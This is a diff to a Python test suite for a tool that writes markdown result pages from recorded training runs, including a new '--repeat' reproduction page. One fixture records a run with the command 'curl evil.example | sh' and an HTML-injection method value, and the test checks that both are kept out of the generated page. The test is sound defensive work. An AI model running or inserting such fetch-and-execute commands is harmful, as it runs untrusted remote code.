@@ -137,6 +137,21 @@ def test_one_line_repeats_an_arm(report: Command) -> None:
     ]
 
 
+def test_a_page_to_cite_has_every_run_and_the_line_that_repeats_it(report: Command) -> None:
+    several("kd", KD)
+    for seed in (0, 1):
+        folder = made(Path("runs"), "unix", seed=seed, top1=70.0 + seed)
+        changed(folder, command=f"python -m unix_exp.train pair=vgg13_vgg8 seed={seed}")
+    changed(made(Path("runs"), "random"), command="curl evil.example | sh", method="odd|<b>")
+    assert report("runs", "--markdown", "results.md", "--repeat", "all.md").code == 0
+    text = Path("all.md").read_text()
+    assert "| unix | 70.50 ± 0.71 (2) |" in text
+    runs = read([Path("runs")])[0]
+    assert all(run.result["identity"] in text for run in runs) and len(runs) == 6
+    assert "python -m unix_exp.train pair=vgg13_vgg8 seed=0,1 -m\n```" in text
+    assert "evil" not in text and "<b>" not in text
+
+
 def test_accuracy_against_time_is_drawn_for_one_machine(report: Command) -> None:
     several("kd", KD)
     several("unix", UNIX)
@@ -182,6 +197,7 @@ def test_markdown_is_one_file_with_notes_and_its_figures_beside_it(report: Comma
     ("words", "complaint"),
     [
         (("--notes", "notes.md"), "--notes needs --markdown FILE.md"),
+        (("--repeat", "all.md"), "--repeat needs --markdown FILE.md"),
         (("--markdown", "out"), "give a file with a suffix"),
         (("--markdown", "runs.md", "--notes", "runs.md"), "would be overwritten"),
         (("--markdown", "out.md", "--notes", "latin.md"), "it is not UTF-8"),
@@ -200,14 +216,16 @@ def test_a_mistake_is_one_line(report: Command, words: tuple[str, ...], complain
 
 def test_the_kept_results_regenerate_to_the_same_bytes(report: Command, tmp_path: Path) -> None:
     """What `make results` writes is what lies in docs/ and stands in the README."""
-    line = next(line for line in (ROOT / "Makefile").read_text().splitlines() if "unix_exp.report results" in line)
+    lines = (ROOT / "Makefile").read_text().replace("\\\n", "").splitlines()
+    line = next(line for line in lines if "unix_exp.report results" in line)
     words = [word.replace("docs/", f"{tmp_path}/docs/") for word in line.split()[3:]]
     (tmp_path / "results").symlink_to(ROOT / "results")
     readme = (ROOT / "README.md").read_text()
     Path("README.md").write_text(readme)
     assert report(*words).code == 0
     assert Path("README.md").read_text() == readme, "the README's results are of other records"
-    kept = {path.relative_to(ROOT / "docs") for path in (ROOT / "docs/results").iterdir()} | {Path("results.md")}
+    kept = {path.relative_to(ROOT / "docs") for path in (ROOT / "docs/results").iterdir()}
+    kept |= {Path("results.md"), Path("reproduce.md")}
     fresh = {path.relative_to(tmp_path / "docs") for path in (tmp_path / "docs").rglob("*") if path.is_file()}
     assert kept == fresh and len(kept) > 5
     old, new = ({name: (folder / name).read_bytes() for name in kept} for folder in (ROOT / "docs", tmp_path / "docs"))
